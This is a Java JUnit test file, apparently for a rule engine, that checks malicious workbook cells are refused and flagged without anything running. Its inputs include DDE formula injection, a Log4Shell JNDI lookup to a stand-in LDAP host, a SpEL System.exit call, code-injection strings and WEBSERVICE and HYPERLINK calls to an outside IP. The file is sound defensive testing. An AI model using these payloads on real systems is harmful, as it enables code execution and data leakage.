package org.gridward.rules.engine.expert;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.gridward.rules.check.PolicyReader;
import org.gridward.rules.workbook.RuleIssue;
import org.gridward.rules.workbook.WorkbookWriter;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A cell of the workbook runs as little as a rule file. */
class CellAttackTest {

  private static final String SHEET = "派单规则";

  @TempDir private Path folder;

  private Path csv;
  private Cage cage;

  @BeforeEach
  void copy() throws IOException, URISyntaxException {
    csv = Files.createDirectory(folder.resolve("policy"));
    try (var files = Files.list(Path.of(CellAttackTest.class.getResource("/policy").toURI()))) {
      for (var file : files.toList()) {
        Files.copy(file, csv.resolve(file.getFileName().toString()));
      }
    }
    cage = new Cage(folder.resolve("canary"));
    cage.clean();
  }

  static Stream<Arguments> cells() {
    return Stream.of(
        Arguments.of("C", "暴露垃圾\"); " + Attack.SING + "; //"),
        Arguments.of("D", "=cmd|' /C calc'!A0"),
        Arguments.of("D", "市民 || " + Attack.SING),
        Arguments.of("F", "基础\", this.test( " + Attack.SING + " ), \""),
        Arguments.of("G", "一类\\u0022"),
        Arguments.of("H", "(0+)+:" + "0".repeat(20_000)),
        Arguments.of("H", "08:00-99:99"),
        Arguments.of("I", "50 + " + Attack.SING),
        Arguments.of("J", "${jndi:ldap://192.0.2.1/a}"),
        Arguments.of("J", "环卫所\u202e"),
        Arguments.of("M", "rule \"x\" when eval( " + Attack.SING + " ) then end"),
        Arguments.of("N", "99999999999999999999天"),
        Arguments.of("O", "@SUM(1+1)*cmd|' /C calc'!A0"),
        Arguments.of("P", "#{T(java.lang.System).exit(0)}"),
        Arguments.of("R", "=WEBSERVICE(\"http://192.0.2.1\")"));
  }

  @ParameterizedTest
  @MethodSource("cells")
  @Timeout(value = 20, unit = TimeUnit.SECONDS)
  void a_cell_with_code_is_refused_at_its_place_and_nothing_runs(String column, String attack)
      throws IOException {
    var sheet = csv.resolve(SHEET + ".csv");
    var lines = Files.readAllLines(sheet);
    var cells = lines.get(3).split(",", -1);
    cells[column.charAt(0) - 'A'] = '"' + attack.replace("\"", "\"\"") + '"';
    lines.set(3, String.join(",", cells));
    Files.write(sheet, lines);

    var read = PolicyReader.read(csv);

    assertThat(read.rules()).isEmpty();
    assertThat(read.issues().stream().filter(RuleIssue::blocks))
        .extracting(RuleIssue::place)
        .contains(SHEET + ".csv!" + SHEET + "!" + column + "4");
    assertThat(cage.trace()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"HYPERLINK(\"http://192.0.2.1\",\"环卫所\")", "1/0", "A1&B1"})
  void a_formula_is_refused_at_its_cell(String formula) throws IOException {
    var xlsx = Files.createDirectory(folder.resolve("xlsx")).resolve("policy.xlsx");
    WorkbookWriter.write(csv, xlsx);
    try (var in = Files.newInputStream(xlsx);
        var workbook = new XSSFWorkbook(in)) {
      workbook.getSheet(SHEET).getRow(3).getCell(9).setCellFormula(formula);
      try (var out = Files.newOutputStream(xlsx)) {
        workbook.write(out);
      }
    }

    assertThat(PolicyReader.read(xlsx).issues())
        .extracting(RuleIssue::place)
        .contains("policy.xlsx!" + SHEET + "!J4");
  }
}
